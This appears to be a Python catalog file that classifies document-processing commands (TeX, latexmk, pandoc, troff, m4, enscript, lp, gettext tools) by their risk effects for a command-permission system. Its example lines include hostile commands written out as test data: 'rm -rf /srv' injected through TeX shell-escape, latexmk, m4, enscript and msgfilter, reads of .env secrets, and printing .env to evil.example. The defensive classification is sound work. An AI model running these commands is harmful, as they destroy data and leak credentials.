"""Programs that typeset, convert and show documents: TeX and troff run commands when told, and all of them print what they read."""

from capfence_sh.catalog.vocabulary import (
    CODE,
    CONFIG,
    DESTRUCTIVE,
    EGRESS,
    INSPECT,
    OPAQUE,
    PROGRAM,
    PROJECT_CODE,
    READ,
    SCRIPT,
    SECRET_READ,
    SHELL,
    SINGLE,
    TEXT,
    URL,
    WRITE,
    WRITES,
    command,
    example,
    flags,
    operands,
    option,
    values,
    variable,
)

FILES = operands(many=READ)

TEX = (
    command(
        *("tex", "etex", "pdftex", "xetex", "luatex", "latex", "pdflatex", "xelatex", "lualatex", "platex", "uplatex"),
        style=SINGLE,
        language="foreign",
        effects=(PROJECT_CODE, WRITES),
        options=(
            *flags(
                "-draftmode, -etex, -file-line-error, -no-file-line-error, -halt-on-error, -ini, -ipc, -mltex, -parse-first-line, -recorder"
            ),
            *flags("-no-shell-escape, -shell-restricted, -enc, -8bit, -translate-file, -batch, -nonstopmode"),
            *values(
                "-fmt, -interaction, -jobname, -kpathsea-debug, -output-comment, -output-format, -progname, -synctex, -src-specials, -cnf-line"
            ),
            option("-output-directory", takes=WRITE),
            option("-shell-escape", "-enable-write18", effects=(OPAQUE,)),
        ),
        operands=operands(many=TEXT),
        analyser="tex",
        examples=(
            example("pdflatex -interaction=nonstopmode paper.tex", PROJECT_CODE, WRITES),
            example("pdflatex '\\input{paper}'", PROJECT_CODE, WRITES, OPAQUE),
            example("pdflatex /tmp/paper.tex", PROJECT_CODE, WRITES, OPAQUE),
            example("pdflatex -shell-escape paper.tex", PROJECT_CODE, WRITES, OPAQUE),
            example("luatex -shell-escape '\\directlua{os.execute(\"rm -rf /srv\")}'", PROJECT_CODE, WRITES, OPAQUE, DESTRUCTIVE),
        ),
    ),
    command(
        "latexmk",
        style=SINGLE,
        effects=(PROJECT_CODE, WRITES),
        options=(
            *flags("-pdf, -xelatex, -lualatex, -c, -C, -f, -g, -quiet, -silent, -pvc, -pv, -cd, -bibtex, -halt-on-error, -norc, -dvi, -ps"),
            *values("-jobname, -outdir, -auxdir, -interaction"),
            *values("-latex, -pdflatex, -latexoption", takes=PROGRAM),
            option("-e", takes=CODE, language="perl"),
            option("-r", takes=CONFIG),
        ),
        operands=FILES,
        examples=(
            example("latexmk -pdf paper.tex", PROJECT_CODE, WRITES),
            example("latexmk -latex='rm -rf /srv #' x", PROJECT_CODE, WRITES, DESTRUCTIVE),
            example("latexmk -e 'system(\"rm -rf /srv\")'", PROJECT_CODE, WRITES, DESTRUCTIVE),
            example("latexmk -r /tmp/x paper.tex", PROJECT_CODE, WRITES, OPAQUE),
        ),
    ),
    command(
        *("dvips", "dvipdf", "dvipdfmx", "dvipdfm"),
        options=(
            *flags("-a, -f, -i, -k, -m, -q, -z, -E, -F, -K, -M, -N, -P, -R0, -R1, -V, -A, -B, -R2"),
            *values("-c, -d, -D, -h, -j, -l, -n, -p, -t, -T, -x, -y"),
            option("-o", takes=WRITE),
        ),
        operands=FILES,
        effects=(OPAQUE,),
        examples=(example("dvips -o a.ps a.dvi", WRITES, OPAQUE),),
    ),
    command(
        *("pandoc",),
        options=(
            *flags(
                "-s --standalone, -N --number-sections, --toc --table-of-contents, --self-contained, --embed-resources, --sandbox, -v, --verbose, --quiet"
            ),
            *flags(
                "--citeproc -C, --no-highlight, --preserve-tabs -p, --reference-links, --list-input-formats, --list-output-formats, --fail-if-warnings"
            ),
            *values(
                "-f -r --from --read, -t -w --to --write, -M --metadata, -V --variable, --columns, --wrap, --shift-heading-level-by, --toc-depth"
            ),
            *values("--highlight-style, --dpi, --eol, --markdown-headings, --slide-level, --request-header"),
            option(
                "--pdf-engine-opt",
                takes=TEXT,
                effects=(OPAQUE,),
                when=("-shell-escape", "--shell-escape", "-enable-write18", "--enable-write18", "--enable-local-file-access"),
            ),
            option("-o", "--output", takes=WRITE),
            option("--log", takes=WRITE),
            option("--extract-media", takes=WRITE),
            *values(
                "-H --include-in-header, -B --include-before-body, -A --include-after-body, --metadata-file, --template, --bibliography",
                takes=READ,
            ),
            *values("--csl, -c --css, --reference-doc", takes=READ),
            *values("-F --filter, --pdf-engine", takes=PROGRAM),
            option("-L", "--lua-filter", takes=SCRIPT, language="lua"),
            *values("-d --defaults, --data-dir", takes=CONFIG),
        ),
        operands=operands(many=URL),
        analyser="documents",
        examples=(
            example("pandoc -s a.md -o a.html", WRITES),
            example("pandoc -t plain .env", SECRET_READ),
            example("pandoc --pdf-engine-opt=-shell-escape a.md -o a.pdf", WRITES, OPAQUE),
            example("pandoc -t /tmp/x.lua a.md", OPAQUE),
            example("pandoc --template https://x.example/t a.md", EGRESS),
            example("pandoc https://x.example/a -o a.md", WRITES, EGRESS),
            example("pandoc -L x.lua a.md", PROJECT_CODE, OPAQUE),
            example("pandoc -F /tmp/x a.md", OPAQUE),
        ),
    ),
    command(
        *("troff", "gtroff", "groff", "nroff", "roff", "heirloom-troff"),
        options=(
            *flags("-a, -b, -c, -e, -g, -G, -i, -j, -k, -l, -N, -p, -R, -s, -S, -t, -V, -X, -z, -Z, -C, -E, -h, -q"),
            option("-U", effects=(OPAQUE,)),
            *values("-d, -D, -f, -F, -K, -L, -m, -M, -n, -o, -P, -r, -T, -w, -W, -I"),
        ),
        operands=FILES,
        environment=(variable("GROFF_COMMAND_PREFIX", takes=PROGRAM),),
        examples=(example("groff -man -Tascii ls.1"), example("troff .env", SECRET_READ), example("groff -U x", OPAQUE)),
    ),
    command(
        *("eqn", "tbl", "pic", "soelim", "zsoelim", "refer", "grn", "preconv", "pic2graph"),
        options=(*flags("-C, -r, -N, -n, -c, -t, -v"), *values("-d, -T, -m, -s, -p, -e, -I"), option("-U", effects=(OPAQUE,))),
        operands=FILES,
        examples=(example("tbl .env", SECRET_READ), example("pic -U x", OPAQUE)),
    ),
    command(
        "m4",
        options=(
            *flags(
                "-E --fatal-warnings, -i --interactive -e, -P --prefix-builtins, -Q --quiet --silent, -s --synclines, -g --gnu, -G --traditional"
            ),
            *values(
                "-D --define, -U --undefine, -L --nesting-limit, -B, -S, -T, -H --hashsize, -d --debug, -t --trace, -l --arglength, -W --word-regexp, -N"
            ),
            *values("-I --include, -R --reload-state", takes=READ),
            *values("-F --freeze-state, -o --debugfile --error-output", takes=WRITE),
        ),
        language="m4",
        stdin=CODE,
        operands=operands(many=SCRIPT),
        effects=(OPAQUE,),
        examples=(
            example("m4 a.m4", OPAQUE, PROJECT_CODE),
            example("m4 <<< 'syscmd(`rm -rf /srv`)'", OPAQUE),
            example("m4 -o log a.m4", OPAQUE, WRITES, PROJECT_CODE),
            example("m4 -I .env a.m4", OPAQUE, SECRET_READ, PROJECT_CODE),
        ),
    ),
    command(
        *("enscript", "a2ps", "nenscript"),
        options=(
            *flags("-q, -B, -r, -R, -1, -2, -G, -z, -g, -k, -h"),
            *values("-a, -b, -f, -F, -i, -j, -M, -n, -t, -T, -w, -X"),
            *values("-o -p --output", takes=WRITE),
            option("-I", "--filter", takes=SHELL),
            option("-P", "-d", takes=TEXT, effects=(EGRESS,)),
            *flags(
                "-end, --no-header, -c --truncate-lines, --print-anyway, --no-job-header, --borders, --page-prefeed, -K --no-page-prefeed, -l --lineprinter, -O --missing-characters, --quiet --silent, --landscape, --portrait, -V, --no-formfeed, -Z --pass-through, --extended-return-values, --help-highlight, --list-media, --nup-columnwise, --rotate-even-pages, --swap-even-page-margins, --toc, --word-wrap, -fTimes-Roman7"
            ),
            *values(
                "-3 -4 -5 -6 -7 -8 -9 --columns, --pages, -A --file-align, --header, --setpagedevice, --font, --header-font, --indent, -J, -L --lines-per-page, --media, --copies, -N --newline, --printer, -s --baselineskip, --statusdict, --title, --tabsize, -U --nup, --encoding, --download-font, --filter-stdin, --footer, --h-column-height, --highlight-bar-gray, --margins, --non-printable-format, --nup-xpad, --nup-ypad, --page-label-format, --ps-level, --printer-options, --slice, --style, --ul-angle, --ul-font, --ul-gray, --ul-position, --ul-style"
            ),
            option("-C", "--line-numbers", takes=TEXT, optional=True),
            option("-e", "--escapes", takes=TEXT, optional=True),
            option("--highlight", takes=TEXT, optional=True),
            option("--fancy-header", takes=TEXT, optional=True),
            option("-H", "--highlight-bars", takes=TEXT, optional=True),
            option("--underlay", takes=TEXT, optional=True),
            option("-v", "--verbose", takes=TEXT, optional=True),
            option("--language", takes=TEXT, optional=True),
            option("--color", takes=TEXT, optional=True),
            option("--mark-wrapped-lines", takes=TEXT, optional=True),
            option("-m", "--mail", effects=(EGRESS,)),
            *values("-D , -S "),
            *flags("--help-pretty-print"),
            option("-E", takes=TEXT, optional=True),
            option("-u", takes=TEXT, optional=True),
        ),
        operands=FILES,
        examples=(
            example("enscript a.txt -o a.ps", WRITES),
            example("enscript /dev/null -qo - -I 'rm -rf /srv'", DESTRUCTIVE),
            example("enscript -P lp a.txt", EGRESS),
        ),
    ),
    command(
        *("lp", "lpr", "lpr-cups", "cancel"),
        effects=(EGRESS,),
        options=(
            *flags("-c, -m, -s, -E, -l, -p, -r"),
            *values("-d, -n, -o, -P, -q, -t, -u, -U, -C, -J, -T, -i, -H, -#"),
            option("-h", takes=TEXT),
        ),
        operands=FILES,
        examples=(example("lp -h evil.example:631 .env", EGRESS, SECRET_READ),),
    ),
    command(
        *("exiv2", "jhead"),
        options=(
            *flags("-p, -q, -v, -h, -V, -f, -k, -l"),
            *values("-P, -g, -K, -n, -e, -d, -S, -r"),
            *flags("-ft, -autorot, -purejpg, -norot, -de, -dt"),
            *values("--delete, --rename"),
            *flags("--keep, --force, --verbose, --quiet, --binary"),
        ),
        operands=operands(many=WRITE),
        examples=(example("exiv2 a.jpg", WRITES),),
    ),
    command(
        "msgfmt",
        options=(
            *flags(
                "-j --java, --java2, --csharp, --csharp-resources, --tcl, --qt, --desktop, --xml, --strict, --source, -P --properties-input"
            ),
            *flags(
                "--stringtable-input, -c --check, --check-format, --check-header, --check-domain, --check-compatibility, -C, -f --use-fuzzy"
            ),
            *flags("--no-hash, --no-convert, --no-redundancy, --statistics, -v --verbose"),
            *values("-r --resource, -l --locale, -L --language, -a --alignment, --endianness"),
            option("-k", "--keyword", "--check-accelerators", takes=TEXT, optional=True),
            *values("-o --output-file, -d", takes=WRITE),
            *values("-D --directory, --template", takes=READ),
            option("-h", "--help", "-V", "--version", harmless=True),
        ),
        operands=FILES,
        examples=(
            example("msgfmt -c a.po -o a.mo", WRITES),
            example("msgfmt -f -d out .env", SECRET_READ, WRITES),
            example("msgfmt --template .env a.po", SECRET_READ),
        ),
    ),
    command(
        *(
            "msgcat",
            "msgattrib",
            "msgconv",
            "msguniq",
            "msginit",
            "msgcomm",
            "msgen",
        ),
        options=(
            *flags(
                "-P --properties-input, -p --properties-output, -u, -i --indent, -s --sort-output, -F --sort-by-file, -c --check, -v --verbose, --no-wrap, -q --quiet, -U --update, -N --no-fuzzy-matching, --statistics, -E, -e, -k, -j, -a, -C, -d"
            ),
            *values("-t --to-code, -w --width, -l --locale, -L --language, --from-code, -K"),
            *values("-o --output-file", takes=WRITE),
            *values("-f --files-from, -D --directory", takes=READ),
            *flags(
                "--translated, --untranslated, --fuzzy, --no-fuzzy, --only-fuzzy, --set-fuzzy, --clear-fuzzy, --unique, --use-first, --omit-header, --no-obsolete, --add-location"
            ),
            *values("--input", takes=READ),
            *flags("--stringtable-input, --color, --no-escape, --escape, --force-po, --no-location, -n, --strict, --stringtable-output"),
            *values("--lang, --style"),
        ),
        operands=FILES,
        examples=(example("msgcat a.po -o b.po", WRITES), example("msgcat -P .env", SECRET_READ)),
    ),
    command(
        "msggrep",
        options=(
            *flags(
                "-E --extended-regexp, -J --msgctxt, -K --msgid, -T --msgstr, -C --comment, -X --extracted-comment, -F --fixed-strings, -i --ignore-case, -v --invert-match, -P --properties-input, --stringtable-input, --color, --no-escape, --escape, --force-po, --indent, --no-location, -n --add-location, --strict, -p --properties-output, --stringtable-output, --no-wrap, --sort-output, --sort-by-file"
            ),
            *values("-N --location, -M --domain, -e --regexp, --style, -w --width"),
            *values("-D --directory", takes=INSPECT),
            *values("-o --output-file", takes=WRITE),
            *values("-f --file", takes=READ),
        ),
        operands=FILES,
        examples=(
            example("msggrep -e x a.po"),
            example("msggrep -f .env a.po", SECRET_READ),
        ),
    ),
    command(
        "msgmerge",
        options=(
            *flags(
                "-m --multi-domain, --for-msgfmt, -N --no-fuzzy-matching, --previous, -P --properties-input, --stringtable-input, --color, -e --no-escape, -E --escape, --force-po, -i --indent, --no-location, -n --add-location, --strict, -p --properties-output, --stringtable-output, --no-wrap, -s --sort-output, -F --sort-by-file, -v --verbose, -q --quiet --silent"
            ),
            *values("--backup, --suffix, --lang, --style, -w --width"),
            *values("-D --directory", takes=INSPECT),
            *values("-C --compendium", takes=READ),
            option("-U", "--update", effects=(WRITES,)),
            *values("-o --output-file", takes=WRITE),
        ),
        operands=FILES,
        examples=(
            example("msgmerge -U a.po b.pot", WRITES),
            example("msgmerge -C .env a.po b.pot -o c.po", SECRET_READ, WRITES),
        ),
    ),
    command(
        "xgettext",
        options=(
            *flags(
                "-C --c++, -j --join-existing, -F --sort-by-file, -a --extract-all, -T --trigraphs, --qt, --kde, --boost, --debug, --color, -e --no-escape, -E --escape, --force-po, -i --indent, --no-location, -n --add-location, --strict, --properties-output, --stringtable-output, --itstool, --no-wrap, -s --sort-output, --omit-header, --foreign-user, -v --verbose"
            ),
            *values(
                "-d --default-domain, -L --language, --from-code, --check, --sentence-end, --flag, --style, -w --width, --copyright-holder, --package-name, --package-version, --msgid-bugs-address"
            ),
            option("-c", "--add-comments", takes=TEXT, optional=True),
            option("-k", "--keyword", takes=TEXT, optional=True),
            option("-m", "--msgstr-prefix", takes=TEXT, optional=True),
            option("-M", "--msgstr-suffix", takes=TEXT, optional=True),
            *values("-f --files-from, -x --exclude-file, --its", takes=READ),
            *values("-D --directory", takes=INSPECT),
            *values("-o --output, -p --output-dir", takes=WRITE),
        ),
        operands=FILES,
        effects=(WRITES,),
        examples=(
            example("xgettext -d app a.c", WRITES),
            example("xgettext -p /etc a.c", WRITES),
            example("xgettext -x .env a.c", WRITES, SECRET_READ),
        ),
    ),
    command(
        "msgfilter",
        "msgexec",
        options=(
            *flags("-P --properties-input, -p, -E, --indent, -s, -F, --keep-header, --force-po"),
            *values("-w, --newline"),
            option("-o", "--output-file", takes=WRITE),
            option("-i", "--input", takes=READ),
            *flags(
                "-n --quiet --silent, --stringtable-input, --color, --no-escape, --escape, --no-location, --add-location, --strict, --properties-output, --stringtable-output, --no-wrap, --sort-output, --sort-by-file"
            ),
            *values("-e --expression, -f --file, --style, --width"),
            *values("-D --directory", takes=INSPECT),
        ),
        operands=operands(PROGRAM, many=TEXT),
        effects=(OPAQUE,),
        examples=(example("msgfilter 'rm -rf /srv'", OPAQUE, DESTRUCTIVE), example("msgfilter -o b cat", OPAQUE, WRITES)),
    ),
    command(
        *("aspell", "ispell", "hunspell", "enchant", "look-aspell"),
        options=(
            *flags("-c, -a, -l, -D, -h, -H, -n, -t, -b, -x, -B, -C"),
            *values("-d, -i, -p, -T, --lang, --encoding, --mode"),
            *values("--personal, --home-dir, --master"),
        ),
        operands=operands(many=READ),
        examples=(example("aspell list"), example("hunspell .env", SECRET_READ)),
    ),
)

COMMANDS = TEX
